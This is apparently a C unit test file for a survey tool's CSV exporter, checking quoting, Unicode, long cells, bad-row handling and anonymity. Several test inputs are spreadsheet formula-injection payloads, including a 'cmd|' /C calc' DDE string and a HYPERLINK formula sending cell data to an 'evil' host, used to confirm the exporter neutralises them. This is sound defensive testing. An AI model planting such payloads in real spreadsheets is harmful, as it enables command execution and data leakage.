#include "export.h"
#include "store/fixture.h"

#include <string.h>

static const char questions[] = "survey:\n"
                                "  - {type: note, name: hei, label: Hei}\n"
                                "  - {type: acknowledge, name: samtykke, label: Ja}\n"
                                "  - {type: select_one nytte, name: nytte, label: Nyttig?}\n"
                                "  - {type: select_multiple tema, name: tema, label: Tema?}\n"
                                "  - {type: integer, name: antall, label: Hvor mange?}\n"
                                "  - {type: text, name: hvorfor, label: Hvorfor?}\n"
                                "choices:\n"
                                "  nytte: [{name: ja, label: Ja}, {name: '-1', label: Vet ikke}]\n"
                                "  tema: [{name: mat, label: Mat}, {name: prat, label: Prat}]\n";

static const Form *add_form(Fixture *fixture, Store *store, const char *mode) {
  static const char format[] = "settings: {form_id: samling, version: '1', default_language: nb}\nlanguages: {nb: Norsk}\n"
                               "kiosk: {privacy: {mode: %s}}\n%s";
  Err err = {0};
  const Form *form = fixture_form(fixture, arena_printf(fixture->arena, format, mode, questions).ptr);
  if (store_add_form(store, form, &err) != STATUS_OK) fail_msg("%s", err.sentence);
  return form;
}

static Status try_export(Fixture *fixture, Store *store, ExportOptions options, Str *out, ExportReport *report, Err *err) {
  Buffer buffer = buffer_new(fixture->arena);
  Sink sink = sink_to_buffer(&buffer);
  *err = (Err){0};
  Status status = export_csv(store, &options, &sink, report, err);
  *out = buffer_view(&buffer);
  return status;
}

static Str export_all(Fixture *fixture, Store *store, bool trials) {
  Str out;
  ExportReport report;
  Err err;
  if (try_export(fixture, store, (ExportOptions){.filter.trials = trials}, &out, &report, &err) != STATUS_OK)
    fail_msg("%s", err.sentence);
  assert_int_equal(report.bad_rows, 0);
  return out;
}

/* Rows are in the order of their keys; these are given to be in the order of the test. */
static void put_as(Fixture *fixture, Store *store, const Form *form, int number, const char *answers) {
  Response visit = fixture_response(fixture, store, form, answers);
  visit.uuid = arena_printf(fixture->arena, "00000000-0000-4000-8000-%012d", number);
  visit.status = RESPONSE_COMPLETE;
  fixture_put(store, &visit);
}

static void every_kind_of_answer_has_its_cells(void **state) {
  static const char want[] =
      "response,form_version,language,channel,round,event,place,status,time,device,samtykke,nytte,tema,tema/mat,tema/"
      "prat,antall,hvorfor\r\n"
      "00000000-0000-4000-8000-000000000001,1,nb,kiosk,,,,complete,2026-11-21,kiosk-1,OK,ja,mat prat,1,1,12,fordi\r\n"
      "00000000-0000-4000-8000-000000000002,1,nb,kiosk,,,,complete,2026-11-21,kiosk-1,,-1,prat,0,1,-3,\r\n"
      "00000000-0000-4000-8000-000000000003,1,nb,kiosk,,,,complete,2026-11-21,kiosk-1,#skipped,#skipped,#skipped,#skipped,#skipped,"
      "#skipped,#skipped\r\n"
      "00000000-0000-4000-8000-000000000004,1,nb,kiosk,,,,complete,2026-11-21,kiosk-1,,,,,,,\r\n";
  Fixture *fixture = *state;
  Store *store = fixture_open(fixture, "a.db");
  const Form *form = add_form(fixture, store, "linked");
  put_as(fixture, store, form, 1,
         "{\"samtykke\":\"OK\",\"nytte\":\"ja\",\"tema\":[\"mat\",\"prat\"],\"antall\":12,\"hvorfor\":\"fordi\"}");
  put_as(fixture, store, form, 2, "{\"nytte\":\"-1\",\"tema\":[\"prat\"],\"antall\":-3}");
  put_as(fixture, store, form, 3, "{\"samtykke\":null,\"nytte\":null,\"tema\":null,\"antall\":null,\"hvorfor\":null}");
  put_as(fixture, store, form, 4, "{}");
  assert_string_equal(export_all(fixture, store, false).ptr, want);
  store_close(store);
}

typedef struct Written {
  const char *json; /* inside the quotes of a JSON text */
  const char *cell;
} Written;

static void texts_arrive_whole_and_harmless(void **state) {
  static const Written cases[] = {
      {"blåbærsyltetøy", "blåbærsyltetøy"},
      {"شكرا لكم", "شكرا لكم"},
      {"\\ud83d\\ude00", "😀"},
      {"a,b", "\"a,b\""},
      {"a\\\"b", "\"a\"\"b\""},
      {"\\\"", "\"\"\"\""},
      {"én\\nto\\r\\ntre", "\"én\nto\r\ntre\""},
      {"a;b", "\"a;b\""},
      {"a\\tb", "\"a\tb\""},
      {"12", "12"},
      /* what a spreadsheet would run */
      {"=1+1", "'=1+1"},
      {"+47 22 33 44 55", "'+47 22 33 44 55"},
      {"-1", "'-1"},
      {"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
      {"@SUM(A1)", "'@SUM(A1)"},
      {"\\t=1", "\"'\t'=1\""},
      {"\\r=1", "\"'\r'=1\""},
      {"=HYPERLINK(\\\"http://x\\\",\\\"y\\\")", "\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\""},
      {"\\n=1", "\"'\n'=1\""},
      {"＝1+1", "'＝1+1"},
      {"＋1", "'＋1"},
      {"－1", "'－1"},
      {"＠SUM(A1)", "'＠SUM(A1)"},
      {"！1", "！1"}, /* full width too, and harmless */
      {"a=1", "a=1"},
      /* what it would run if it began a cell elsewhere */
      {"hei;=1+1;", "\"hei;'=1+1;\""},
      {"x;=HYPERLINK(\\\"http://evil/?\\\"&A1);", "\"x;'=HYPERLINK(\"\"http://evil/?\"\"&A1);\""},
      {"a\\t+1\\t-1", "\"a\t'+1\t'-1\""},
      {"a\\n@b\\r\\n=c", "\"a\n'@b\r\n'=c\""},
      {"a;\\\"=1&\\\"", "\"a;\"\"'=1&\"\"\""},
      {"a;\\\"\\\";=1", "\"a;\"\"\"\";'=1\""},
      {"a;＝1;；b", "\"a;'＝1;；b\""},
      {"=1;=2", "\"'=1;'=2\""},
      {";-", "\";'-\""},
      {"bra; -veldig", "\"bra; -veldig\""},
      {"a;'=1", "\"a;'=1\""},
      {"1;2;", "\"1;2;\""},
      {"a,=1", "\"a,=1\""},
      {"a\\\"=1", "\"a\"\"=1\""},
      {"#skipped", "'#skipped"},
      {"#1", "#1"},
  };
  Fixture *fixture = *state;
  Store *store = fixture_open(fixture, "a.db");
  const Form *form = add_form(fixture, store, "anonymous");
  for (size_t i = 0; i < COUNT_OF(cases); i++)
    put_as(fixture, store, form, (int)i, arena_printf(fixture->arena, "{\"hvorfor\":\"%s\"}", cases[i].json).ptr);
  const char *at = strchr(export_all(fixture, store, false).ptr, '\n') + 1;
  for (size_t i = 0; i < COUNT_OF(cases); i++) {
    Str want = arena_printf(fixture->arena, "00000000-0000-4000-8000-%012zu,1,nb,kiosk,,,,complete,2026-11-21,,,,,,,%s\r\n", i,
                            cases[i].cell);
    if (strncmp(at, want.ptr, want.len) != 0) fail_msg("wanted: %s\ngot: %s", want.ptr, at);
    at += want.len;
  }
  assert_string_equal(at, "");
  store_close(store);
}

static void words_of_the_configuration_are_defused_too(void **state) {
  Fixture *fixture = *state;
  Store *store = fixture_open(fixture, "a.db");
  const Form *form = add_form(fixture, store, "anonymous");
  Response visit = fixture_response(fixture, store, form, "{}");
  visit.event = STR("=1+1");
  visit.place = STR("Bodø, rådhuset");
  visit.round = STR("@a");
  fixture_put(store, &visit);
  assert_non_null(strstr(export_all(fixture, store, false).ptr, ",nb,kiosk,'@a,'=1+1,\"Bodø, rådhuset\",partial,"));
  store_close(store);
}

/* So are a form's version, a language's code, and whatever a stranger wrote into the file. */
static void every_word_about_a_row_is_defused(void **state) {
  Fixture *fixture = *state;
  Store *store = fixture_open(fixture, "a.db");
  const Form *form = fixture_plain_form(fixture, "=cmd()");
  Err err = {0};
  if (store_add_form(store, form, &err) != STATUS_OK) fail_msg("%s", err.sentence);
  Response visit = fixture_response(fixture, store, form, "{}");
  visit.uuid = STR("=0000000-0000-4000-8000-000000000000");
  visit.language = STR("@nb");
  fixture_put(store, &visit);
  Str out = export_all(fixture, store, false);
  assert_non_null(strstr(out.ptr, "\r\n'=0000000-0000-4000-8000-000000000000,'=cmd(),'@nb,kiosk,,,,partial,2026-11-21"));
  store_close(store);
}

static void an_anonymous_form_has_no_device(void **state) {
  Fixture *fixture = *state;
  Store *store = fixture_open(fixture, "a.db");
  const Form *form = add_form(fixture, store, "anonymous");
  put_as(fixture, store, form, 1, "{}");
  Str out = export_all(fixture, store, false);
  assert_null(strstr(out.ptr, "device"));
  assert_null(strstr(out.ptr, "kiosk-1"));
  store_close(store);
}

static void trials_come_only_when_asked_for(void **state) {
  Fixture *fixture = *state;
  Store *store = fixture_open(fixture, "a.db");
  const Form *form = add_form(fixture, store, "anonymous");
  Response trial = fixture_response(fixture, store, form, "{\"antall\":1}");
  trial.trial = true;
  fixture_put(store, &trial);
  put_as(fixture, store, form, 1, "{\"antall\":2}");
  Str without = export_all(fixture, store, false);
  assert_null(strstr(without.ptr, trial.uuid.ptr));
  assert_null(strstr(without.ptr, "trial"));
  Str with = export_all(fixture, store, true);
  assert_non_null(strstr(with.ptr, ",time,trial,"));
  assert_non_null(strstr(with.ptr, "partial,2026-11-21,1,"));
  assert_non_null(strstr(with.ptr, "complete,2026-11-21,0,"));
  store_close(store);
}

static void an_attachment_is_its_name(void **state) {
  Fixture *fixture = *state;
  Store *store = fixture_open(fixture, "a.db");
  const Form *form = fixture_form(
      fixture, "settings: {form_id: samling, version: '1', default_language: nb}\nlanguages: {nb: Norsk}\nsurvey:\n"
               "  - {type: image, name: underskrift, label: Underskrift, appearance: signature}\n"
               "  - {type: repeat, name: r, label: R, questions: [{type: image, name: tegning, label: T, appearance: draw}]}\n");
  Err err = {0};
  assert_int_equal(store_add_form(store, form, &err), STATUS_OK);
  put_as(fixture, store, form, 1, "{\"underskrift\":\"underskrift.png\",\"r\":[{\"tegning\":\"r-1-tegning.png\"}]}");
  put_as(fixture, store, form, 2, "{\"underskrift\":null}");
  assert_string_equal(export_all(fixture, store, false).ptr,
                      "response,form_version,language,channel,round,event,place,status,time,underskrift,r\r\n"
                      "00000000-0000-4000-8000-000000000001,1,nb,kiosk,,,,complete,2026-11-21,underskrift.png,1\r\n"
                      "00000000-0000-4000-8000-000000000002,1,nb,kiosk,,,,complete,2026-11-21,#skipped,\r\n");
  store_close(store);
}

static void one_bad_row_stops_no_other(void **state) {
  Fixture *fixture = *state;
  Store *store = fixture_open(fixture, "a.db");
  const Form *form = add_form(fixture, store, "anonymous");
  put_as(fixture, store, form, 1, "{\"antall\":1}");
  put_as(fixture, store, form, 2, "{\"ukjent\":1}");
  put_as(fixture, store, form, 3, "{\"antall\":{\"dypt\":1}}");
  put_as(fixture, store, form, 4, "{\"antall\":4}");
  put_as(fixture, store, form, 5, "{}");
  put_as(fixture, store, form, 6, "{\"antall\":6}");
  fixture_query(fixture, "a.db",
                "PRAGMA ignore_check_constraints = ON; UPDATE response SET answers = '{\"anta' WHERE uuid LIKE '%5';"
                "UPDATE response SET answers = NULL, sealed = x'00', seal_key = 'k' WHERE uuid LIKE '%6'");
  Str out;
  ExportReport report;
  Err err;
  assert_int_equal(try_export(fixture, store, (ExportOptions){0}, &out, &report, &err), STATUS_OK);
  assert_int_equal(report.rows, 2);
  assert_int_equal(report.bad_rows, 4);
  assert_non_null(strstr(out.ptr, "000000000001,"));
  assert_non_null(strstr(out.ptr, "000000000004,"));
  assert_null(strstr(out.ptr, "000000000002,"));
  store_close(store);
}

/* Cells go out in blocks: texts as long as one, or longer, go through whole, quotes or none. */
static void texts_longer_than_a_block_arrive_whole(void **state) {
  static const size_t lengths[] = {65400, 65500, 65535, 65536, 65537, 131072, 200001};
  static const char letters[] = {'a', '"', ','};
  Fixture *fixture = *state;
  Store *store = fixture_open(fixture, "a.db");
  const Form *form = add_form(fixture, store, "anonymous");
  Buffer want = buffer_new(fixture->arena);
  Sink sink = sink_to_buffer(&want);
  int number = 0;
  for (size_t i = 0; i < COUNT_OF(lengths); i++)
    for (size_t k = 0; k < COUNT_OF(letters); k++, number++) {
      char *text = arena_alloc(fixture->arena, lengths[i] + 1);
      memset(text, 'a', lengths[i]);
      text[lengths[i] / 2] = letters[k];
      const bool quoted = letters[k] != 'a';
      Buffer json = buffer_new(fixture->arena);
      Sink json_sink = sink_to_buffer(&json);
      sink_z(&json_sink, "{\"hvorfor\":");
      sink_json_str(&json_sink, (Str){text, lengths[i]});
      sink_z(&json_sink, "}");
      put_as(fixture, store, form, number, json.bytes);
      sink_printf(&sink, "00000000-0000-4000-8000-%012d,1,nb,kiosk,,,,complete,2026-11-21,,,,,,,%s", number, quoted ? "\"" : "");
      sink_bytes(&sink, text, lengths[i] / 2);
      sink_z(&sink, letters[k] == '"' ? "\"\"" : letters[k] == ',' ? "," : "a");
      sink_printf(&sink, "%s%s\r\n", text + lengths[i] / 2 + 1, quoted ? "\"" : "");
    }
  assert_string_equal(strchr(export_all(fixture, store, false).ptr, '\n') + 1, want.bytes);
  store_close(store);
}

/* A database that is wrong as a whole is told in a few lines, and counted in full. */
static void many_bad_rows_are_few_warnings(void **state) {
  enum { ROWS = 60 };
  Fixture *fixture = *state;
  Store *store = fixture_open(fixture, "a.db");
  const Form *form = add_form(fixture, store, "anonymous");
  for (int i = 0; i < ROWS; i++)
    put_as(fixture, store, form, i, "{\"uk\\u001b[2J\\njent\":1}");
  Buffer rows = buffer_new(fixture->arena), warned = buffer_new(fixture->arena);
  Sink sink = sink_to_buffer(&rows), warnings = sink_to_buffer(&warned);
  ExportOptions options = {.warnings = &warnings};
  ExportReport report;
  Err err = {0};
  assert_int_equal(export_csv(store, &options, &sink, &report, &err), STATUS_OK);
  assert_int_equal(report.bad_rows, ROWS);
  size_t lines = 0;
  for (size_t i = 0; i < warned.count; i++)
    lines += warned.bytes[i] == '\n';
  assert_int_equal(lines, 50);
  assert_non_null(strstr(warned.bytes, "uk [2J jent\n")); /* what a file says does not steer the terminal */
  assert_non_null(
      strstr(warned.bytes, "warning: response 00000000-0000-4000-8000-000000000000 is left out: no version of the form has"));
  store_close(store);
}

static const Form *add_named(Fixture *fixture, Store *store, const char *id) {
  const char *yaml =
      arena_printf(fixture->arena, "settings: {form_id: %s, version: '1', default_language: nb}\nlanguages: {nb: Norsk}\n%s", id,
                   questions)
          .ptr;
  const Form *form = fixture_form(fixture, yaml);
  Err err = {0};
  assert_int_equal(store_add_form(store, form, &err), STATUS_OK);
  return form;
}

static void says_which_forms_there_are(void **state) {
  Fixture *fixture = *state;
  Store *store = fixture_open(fixture, "a.db");
  Str out;
  ExportReport report;
  Err err;
  assert_int_equal(try_export(fixture, store, (ExportOptions){0}, &out, &report, &err), STATUS_INPUT);
  assert_string_equal(err.code, "no-form");
  put_as(fixture, store, add_named(fixture, store, "kandidat"), 1, "{\"antall\":77}");
  put_as(fixture, store, add_named(fixture, store, "samling"), 2, "{\"antall\":88}");
  assert_int_equal(try_export(fixture, store, (ExportOptions){0}, &out, &report, &err), STATUS_USAGE);
  assert_string_equal(err.code, "which-form");
  assert_non_null(strstr(err.sentence, "kandidat, samling"));
  assert_int_equal(try_export(fixture, store, (ExportOptions){.form_id = STR("samlin")}, &out, &report, &err), STATUS_INPUT);
  assert_string_equal(err.code, "unknown-form");
  assert_non_null(strstr(err.sentence, "did you mean \"samling\"?"));
  assert_int_equal(try_export(fixture, store, (ExportOptions){.form_id = STR("kandidat")}, &out, &report, &err), STATUS_OK);
  assert_non_null(strstr(out.ptr, "77"));
  assert_null(strstr(out.ptr, "88"));
  store_close(store);
}

static bool full(void *context, const char *bytes, size_t count) {
  (void)bytes;
  size_t *room = context;
  if (count > *room) return false;
  *room -= count;
  return true;
}

static void a_full_disk_is_a_failure(void **state) {
  Fixture *fixture = *state;
  Store *store = fixture_open(fixture, "a.db");
  put_as(fixture, store, add_form(fixture, store, "anonymous"), 1, "{}");
  Str whole = export_all(fixture, store, false);
  for (size_t room = 0; room <= whole.len; room++) {
    size_t left = room;
    Sink sink = {full, &left, false};
    ExportReport report;
    Err err = {0};
    ExportOptions options = {0};
    Status want = room < whole.len ? STATUS_WORLD : STATUS_OK;
    assert_int_equal(export_csv(store, &options, &sink, &report, &err), want);
  }
  store_close(store);
}

int main(void) {
  const struct CMUnitTest tests[] = {
      cmocka_unit_test_setup_teardown(every_kind_of_answer_has_its_cells, fixture_setup, fixture_teardown),
      cmocka_unit_test_setup_teardown(texts_arrive_whole_and_harmless, fixture_setup, fixture_teardown),
      cmocka_unit_test_setup_teardown(words_of_the_configuration_are_defused_too, fixture_setup, fixture_teardown),
      cmocka_unit_test_setup_teardown(every_word_about_a_row_is_defused, fixture_setup, fixture_teardown),
      cmocka_unit_test_setup_teardown(an_anonymous_form_has_no_device, fixture_setup, fixture_teardown),
      cmocka_unit_test_setup_teardown(trials_come_only_when_asked_for, fixture_setup, fixture_teardown),
      cmocka_unit_test_setup_teardown(an_attachment_is_its_name, fixture_setup, fixture_teardown),
      cmocka_unit_test_setup_teardown(one_bad_row_stops_no_other, fixture_setup, fixture_teardown),
      cmocka_unit_test_setup_teardown(texts_longer_than_a_block_arrive_whole, fixture_setup, fixture_teardown),
      cmocka_unit_test_setup_teardown(many_bad_rows_are_few_warnings, fixture_setup, fixture_teardown),
      cmocka_unit_test_setup_teardown(says_which_forms_there_are, fixture_setup, fixture_teardown),
      cmocka_unit_test_setup_teardown(a_full_disk_is_a_failure, fixture_setup, fixture_teardown),
  };
  return cmocka_run_group_tests(tests, NULL, NULL);
}
